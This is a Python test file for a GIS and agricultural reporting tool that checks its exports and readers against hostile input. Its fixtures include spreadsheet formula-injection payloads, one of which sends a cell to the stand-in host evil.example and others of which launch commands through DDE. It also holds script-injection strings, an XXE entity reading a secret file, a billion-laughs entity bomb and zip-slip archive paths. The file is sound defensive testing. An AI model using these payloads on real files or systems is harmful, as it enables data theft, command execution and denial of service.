"""Hostile and careless data: names that would run as code in a spreadsheet or an
XML reader stay text in every output.  (The map, in a real Chromium, is tested in
test_maps.py; what `geoagri check` catches before a run is in test_check.py.)"""

from __future__ import annotations

import csv
import re
import zipfile
from xml.etree import ElementTree as ET

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import load_workbook
from shapely.geometry import Point, box

from geoagri.export import export_layers, qgis_style
from geoagri.io import read_layer, write_layer
from geoagri.report import ReportData, write_report

X, Y = 500_000, 1_200_000  # UTM 48N

#: Text a spreadsheet would run as a formula (OWASP's examples and the issue's).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Xã A")',
    "=WEBSERVICE(\"http://evil.example/\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Text an XML or HTML reader would take for markup.
MARKUP = ["<script>alert(1)</script>", "]]><x/>", "&amp; &lt;", "<![CDATA[x]]>",
          '"quoted" \'single\'']


def _progress(scope_ids):
    return pd.DataFrame([{
        "indicator": "linkage_area", "unit": "ha", "scope": "district", "scope_id": s,
        "start_year": None, "year": 2024, "season": None, "source": "resolution",
        "source_ref": s, "target": 100.0, "actual": 50.0, "actual_year": 2024,
        "achieved_pct": 50.0, "shortfall": 50.0, "note": s} for s in scope_ids])


@pytest.fixture()
def report_files(tmp_path):
    names = FORMULAS
    linkage = pd.DataFrame({
        "commune_id": [f"{i}" for i in range(len(names))], "commune_name": names,
        "area_ha": [10.0] * len(names), "overlap_ha": [0.0] * len(names),
        "commune_share_pct": [1.0] * len(names), "target_ha": [20.0] * len(names),
        "achieved_pct": [50.0] * len(names)})
    works = pd.DataFrame({
        "work_id": names, "name": names, "work_type": ["canal"] * len(names),
        "investor": ["province"] * len(names), "status": ["planned"] * len(names),
        "commune_name": names, "year": [2024] * len(names),
        "cost_million_vnd": [-1.5] * len(names)})  # a negative number stays a number
    data = ReportData(_progress(names), linkage, pd.DataFrame(), works,
                      notes=("=1+1 is a note", "@note"))
    return write_report(data, tmp_path / "report.xlsx", language="en",
                        tables_dir=tmp_path / "tables"), names


#: The only formulas the workbook writes: its totals and subtotals over cell ranges, and a
#: ratio of two cells (a percentage); never text from the data.
TOTALS = re.compile(r'=SUBTOTAL\((9|3),[A-Z]+\d+:[A-Z]+\d+\)'
                    r'|=IF\(N\([A-Z]+\d+\)=0,"",[A-Z]+\d+/[A-Z]+\d+\*\d+\)')


def test_xlsx_formula_cells_are_only_the_totals(report_files):
    files, names = report_files
    wb = load_workbook(files["workbook"])
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas and all(TOTALS.fullmatch(f) for _, _, f in formulas), formulas
    # the text is there as written, marked as text for whoever edits the cell
    ws = wb["Appendix III"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for name in names:
        if name not in cells:  # an XML reader may take a carriage return for a newline
            name = name.replace("\r", "\n")
        assert name in cells, name
        assert cells[name].data_type == "s" and cells[name].quotePrefix, name
    h = int(ws.print_title_rows.split(":")[0].strip("$"))
    headers = [c.value for c in ws[h]]
    cost = headers.index(next(h for h in headers if "million" in str(h)))
    items = [r for r in ws.iter_rows(min_row=h + 1) if isinstance(r[0].value, int)]
    assert [r[cost].value for r in items] == [-1.5] * len(names)
    notes = [c.value for row in wb["Summary"].iter_rows() for c in row
             if c.value in ("=1+1 is a note", "@note")]
    assert notes == ["=1+1 is a note", "@note"]


def test_xlsx_xml_stores_them_as_strings(report_files):
    files, _ = report_files
    with zipfile.ZipFile(files["workbook"]) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist()
                  if n.startswith("xl/worksheets/sheet")]
    found = [f for s in sheets for f in re.findall(r"<f>(.*?)</f>", s)]
    assert sheets and found and not any("<f " in s for s in sheets)
    assert all(TOTALS.fullmatch("=" + f.replace("&quot;", '"')) for f in found), found


def test_csv_tables_are_protected(report_files):
    files, names = report_files
    with open(files["appendix_3_works"], encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["Work id"] for r in rows] == ["'" + n for n in names]
    assert [r["Name"] for r in rows] == ["'" + n for n in names]
    # numbers are not prefixed
    cost = next(k for k in rows[0] if "million" in k.lower())
    assert {r[cost] for r in rows} == {"-1.5"}


def test_write_layer_csv_and_export_csv(tmp_path):
    table = pd.DataFrame({"name": [*FORMULAS, "Xã Thái Trị", "-"], "n": range(len(FORMULAS) + 2)})
    back = pd.read_csv(write_layer(table, tmp_path / "t.csv"), encoding="utf-8-sig",
                       keep_default_na=False)
    assert back["name"].tolist() == [f"'{v}" for v in FORMULAS] + ["Xã Thái Trị", "'-"]
    assert back["n"].tolist() == list(range(len(FORMULAS) + 2))
    # export writes tables without geometry (targets) through the same writer
    targets = pd.DataFrame({"indicator": ["linkage_area"], "unit": ["ha"], "scope": ["district"],
                            "scope_id": [FORMULAS[0]], "year": [2024],
                            "source": ["resolution"], "target": [1.0]})
    pumps = gpd.GeoDataFrame({"pump_id": ["=1+1"], "status": ["operating"]},
                             geometry=[Point(X, Y)], crs="EPSG:32648")
    written = export_layers({"targets": targets, "pumps": pumps}, tmp_path / "out.gpkg")
    text = written["targets"].read_text(encoding="utf-8-sig")
    assert f"'{FORMULAS[0]}".replace('"', '""') in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


@pytest.mark.parametrize("fmt", ["kml", "kmz"])
def test_kml_keeps_markup_as_text(tmp_path, fmt):
    values = [*MARKUP, "tab\there", "vertical\x0btab", "nul\x00byte"]
    pumps = gpd.GeoDataFrame(
        {"pump_id": [f"P{i}" for i in range(len(values))], "status": ["operating"] * len(values),
         "name": values, "note": values},
        geometry=[Point(X + 100 * i, Y) for i in range(len(values))], crs="EPSG:32648")
    target = tmp_path / f"pumps.{fmt}"
    export_layers({"pumps": pumps}, target, format=fmt)
    if fmt == "kmz":
        with zipfile.ZipFile(target) as zf:
            raw = zf.read(next(n for n in zf.namelist() if n.endswith(".kml")))
    else:
        raw = target.read_bytes()
    root = ET.fromstring(raw)  # well-formed XML, whatever the names held
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    names = [e.text for e in root.iterfind(".//k:Placemark/k:name", ns)]
    expected = [v.replace("\x0b", " ").replace("\x00", " ") for v in values]
    assert names == expected
    notes = [e.text for e in root.iterfind(".//k:SimpleData[@name='note']", ns)]
    assert notes == expected
    assert root.find(".//script") is None and root.find(".//x") is None
    # and GDAL reads the same text back
    back = read_layer(target, kind="pumps")
    assert back.sort_values("pump_id", key=lambda s: s.str[1:].astype(int))["name"].tolist() \
        == expected


def test_qml_is_well_formed_with_hostile_values():
    works = gpd.GeoDataFrame({"work_id": ["W1"], "status": ["planned"],
                              "name": ["<script>alert(1)</script>"]},
                             geometry=[box(X, Y, X + 10, Y + 10)], crs="EPSG:32648")
    qml = qgis_style(works, kind="works")
    root = ET.fromstring(qml.split("\n", 1)[1])
    assert root.tag == "qgis" and root.find(".//script") is None


# --------------------------------------------------------------------------- what holds


def _kml(doctype: str, name: str) -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE kml [{doctype}]>\n'
            '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark>'
            f'<name>{name}</name><ExtendedData><Data name="pump_id"><value>{name}</value>'
            '</Data><Data name="status"><value>operating</value></Data></ExtendedData>'
            '<Point><coordinates>105.02,10.87</coordinates></Point></Placemark></Document>'
            '</kml>')


def _bomb() -> str:
    ents = ['<!ENTITY a0 "lol">'] + [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">'
                                      for i in range(1, 10)]
    return _kml("".join(ents), "&a9;")


@pytest.mark.parametrize("suffix", [".kml", ".kmz"])
@pytest.mark.parametrize("kind", ["external", "expansion"])
def test_kml_entities_are_refused_and_nothing_leaks(tmp_path, capsys, suffix, kind):
    from geoagri.cli import main
    from geoagri.errors import GeoagriError

    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-XYZ-42", encoding="utf-8")
    text = (_kml(f'<!ENTITY xxe SYSTEM "{secret.as_uri()}">', "&xxe;") if kind == "external"
            else _bomb())
    path = tmp_path / f"pumps{suffix}"
    if suffix == ".kmz":
        with zipfile.ZipFile(path, "w") as zf:
            zf.writestr("doc.kml", text)
    else:
        path.write_text(text, encoding="utf-8")
    with pytest.raises(GeoagriError) as info:
        read_layer(path, kind="pumps")
    assert "SECRET" not in str(info.value) and "lollol" not in str(info.value)
    assert path.name in str(info.value)
    plan = tmp_path / "plan.toml"
    plan.write_text(f'[layers.pumps]\nkind = "pumps"\npath = "{path.name}"\n', encoding="utf-8")
    assert main(["check", str(plan)]) == 1
    out, err = capsys.readouterr()
    assert "layer 'pumps'" in out and "Traceback" not in out + err
    assert "SECRET" not in out + err


def test_zip_members_with_dotdot_write_nothing_outside(tmp_path):
    from geoagri.errors import GeoagriError

    inside = tmp_path / "work"
    inside.mkdir()
    archive = inside / "evil.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("../../escaped.txt", "x")
        zf.writestr("/abs_escaped.txt", "x")
    before = {p for p in tmp_path.rglob("*")}
    with pytest.raises(GeoagriError, match="holds 0 shapefiles"):
        read_layer(archive, kind="pumps")
    assert {p for p in tmp_path.rglob("*")} == before
    assert not (tmp_path / "escaped.txt").exists() and not (inside / "escaped.txt").exists()
